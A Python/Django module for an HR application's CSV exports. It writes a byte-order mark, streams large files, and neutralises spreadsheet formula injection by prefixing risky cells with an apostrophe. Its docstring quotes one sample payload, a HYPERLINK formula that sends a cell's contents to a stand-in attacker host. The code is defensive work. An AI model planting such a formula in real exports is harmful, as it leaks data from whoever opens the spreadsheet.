"""The one CSV writer behind every export (status board today; candidates, interviews…).

Every export starts with a UTF-8 byte-order mark, so spreadsheet programs read accented
names (Chloé, Łukasz) as they are written instead of guessing a legacy encoding. A big
export streams (`stream_csv`): rows are written as they are produced, never held at once.

A spreadsheet treats a cell that starts with = + - @ (or a tab or carriage return, which
some programs skip before reading the formula) as a formula: a requisition title
`=HYPERLINK("http://evil.example/?leak="&A3,"Open")` written as it is would run in HR's
spreadsheet. Every text cell that could be read that way gets a leading apostrophe, the
neutralisation OWASP recommends, which spreadsheets show as text and do not display.
Numbers, dates and booleans are written as they are: a negative count is not a formula.
"""

import csv
import datetime
from collections.abc import Iterable, Sequence
from decimal import Decimal

from django.http import HttpResponse, StreamingHttpResponse

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r", "\n")
BOM = "\ufeff"


def neutralise_cell(value):
    """A cell as written: text that a spreadsheet would evaluate starts with a quote."""
    if value is None:
        return ""
    if isinstance(value, bool | int | float | Decimal | datetime.date | datetime.time):
        return value
    text = str(value)
    if text.startswith(FORMULA_PREFIXES):
        return "'" + text
    return text


def write_csv(target, rows: Iterable[Sequence], *, header: Sequence[str] | None = None) -> None:
    """Write `header` then `rows` to a file-like `target` (an HttpResponse works), every
    cell through `neutralise_cell`."""
    writer = csv.writer(target)
    if header is not None:
        writer.writerow([neutralise_cell(cell) for cell in header])
    for row in rows:
        writer.writerow([neutralise_cell(cell) for cell in row])


def _attachment(response, filename: str):
    # The file name is ours, never user text.
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    return response


def csv_response(filename: str) -> HttpResponse:
    """An attachment response to `write_csv` into, its byte-order mark already written."""
    response = HttpResponse(content_type="text/csv; charset=utf-8")
    response.write(BOM)
    return _attachment(response, filename)


class _Line:
    """A file-like target that hands back what the csv writer writes (one row)."""

    def write(self, value: str) -> str:
        return value


def stream_csv(
    filename: str, rows: Iterable[Sequence], *, header: Sequence[str]
) -> StreamingHttpResponse:
    """An attachment that streams: the byte-order mark and `header`, then each row of the
    iterable as it comes, every cell through `neutralise_cell`. The response holds one row
    at a time; `rows` decides how much it reads ahead."""
    writer = csv.writer(_Line())

    def lines():
        yield BOM + writer.writerow([neutralise_cell(cell) for cell in header])
        for row in rows:
            yield writer.writerow([neutralise_cell(cell) for cell in row])

    response = StreamingHttpResponse(lines(), content_type="text/csv; charset=utf-8")
    return _attachment(response, filename)
